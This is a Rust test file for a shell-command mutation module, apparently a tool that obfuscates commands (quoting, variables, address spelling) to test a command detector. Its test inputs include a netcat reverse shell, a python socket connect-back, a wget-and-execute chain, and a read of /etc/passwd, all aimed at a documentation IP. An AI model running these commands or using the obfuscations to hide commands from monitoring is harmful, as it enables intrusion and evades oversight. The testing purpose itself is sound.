//! The attacks on commands: what they change, and what they leave as it is.

use proptest::prelude::*;
use ringtrue_core::Limits;
use ringtrue_intake::command::Command;

use std::collections::BTreeSet;

use ringtrue_core::random::Random;

use super::*;
use crate::artefact::{Material, check};

fn material() -> Material {
    let lines = [
        "find . -name '*.py' | xargs grep \"x\" > out",
        "echo $(ls) `id`",
        "it's",
        "a;b",
        "",
    ];
    Material::new(lines.map(str::to_owned))
}

/// Returns what each attack makes of a line, over some seeds.
fn changes(text: &str) -> Vec<(&'static str, String)> {
    let material = material();
    let seeds = || 0..12_u64;
    let each = all()
        .iter()
        .flat_map(|attack| seeds().map(move |seed| (*attack, seed)));
    let changed = each.filter_map(|(attack, seed)| {
        let changed = check::change(attack, text, &material, seed)?;
        Some((attack.declaration().name, changed))
    });
    changed.collect()
}

#[test]
fn declarations_are_complete_and_names_differ() {
    check::declarations(all());
    check::declarations(crate::artefact::session::all());
}

#[test]
fn every_attack_changes_something_of_a_shell() {
    let lines = [
        "a=1;b=2;mkfifo /tmp/f;mkdir /tmp/g;cat /tmp/f | /bin/sh -i 2>&1 | nc -n 192.0.2.7 4444 >/tmp/f",
        "python3 -c 'import socket;s=socket.socket();s.connect((\"192.0.2.7\",443))'",
        "rm -rf /tmp/x && echo done | base64",
    ];
    let changed: BTreeSet<&str> = lines
        .iter()
        .flat_map(|line| changes(line))
        .map(|(name, _)| name)
        .collect();
    let missing: Vec<&str> = all()
        .iter()
        .map(|attack| attack.declaration().name)
        .filter(|name| !changed.contains(name))
        .collect();
    assert!(missing.is_empty(), "{missing:?}");
}

#[test]
fn what_is_changed_is_read_as_the_same_programs() {
    let text = "wget -q http://192.0.2.7/x -O /tmp/x && chmod +x /tmp/x && /tmp/x";
    let programs = |text: &str| -> Vec<String> {
        let (command, _) = Command::parse(text, &Limits::default());
        command.programs().map(str::to_owned).collect()
    };
    for (name, changed) in changes(text) {
        if matches!(
            name,
            "quoting"
                | "numbered-letters"
                | "variables"
                | "address-spelling"
                | "domain-for-address"
                | "flags"
                | "comment"
        ) {
            let last = programs(&changed);
            let last: Vec<&String> = last.iter().filter(|program| !program.is_empty()).collect();
            assert!(
                last.ends_with(&programs(text).iter().collect::<Vec<_>>()),
                "{name}: {changed}: {last:?}"
            );
        }
    }
}

#[test]
fn of_an_argument_vector_the_code_of_a_shell_is_changed() {
    for (name, changed) in changes("[\"sh\", \"-c\", \"cat /etc/passwd\"]") {
        let words: Vec<String> = serde_json::from_str(&changed).unwrap();
        assert_eq!(
            (words.len(), &*words[0], &*words[1]),
            (3, "sh", "-c"),
            "{name}"
        );
    }
    assert!(changes("[\"cat\", \"/etc/passwd\"]").is_empty());
}

#[test]
fn material_never_runs() {
    for (name, changed) in changes("id") {
        for part in ["$(ls)", "`id`"] {
            let stands = changed.contains(part);
            let never_runs = ["false && ", "true || ", "if false; then "]
                .iter()
                .any(|guard| changed.starts_with(guard));
            assert!(!stands || never_runs, "{name}: {changed}");
        }
    }
}

proptest! {
    #[test]
    fn no_attack_panics_on_any_text(text in any::<String>(), seed in any::<u64>()) {
        let material = material();
        for attack in all() {
            let _changed = attack.change(&text, &material, &mut Random::new(seed));
        }
    }

    #[test]
    fn no_attack_panics_on_shell_letters(text in "[a-c1.'\"\\\\$(){}`;&|<>#=*/ \n\t-]{0,24}", seed in any::<u64>()) {
        let material = material();
        for attack in all().iter().chain(crate::artefact::session::all()) {
            let _changed = attack.change(&text, &material, &mut Random::new(seed));
        }
    }

    #[test]
    fn words_and_statements_lie_in_order(text in "[a-c1.'\"\\\\$(){};&|<>=/ \n-]{0,24}") {
        if let Some(line) = line::Line::read(&text) {
            let mut last = 0;
            for statement in &line.statements {
                prop_assert!(statement.start >= last && statement.end <= text.len());
                for word in &statement.words {
                    prop_assert!(word.at.start >= statement.start && word.at.end <= statement.end);
                    prop_assert!(!line.letters(word).is_empty());
                }
                last = statement.end;
            }
        }
    }
}
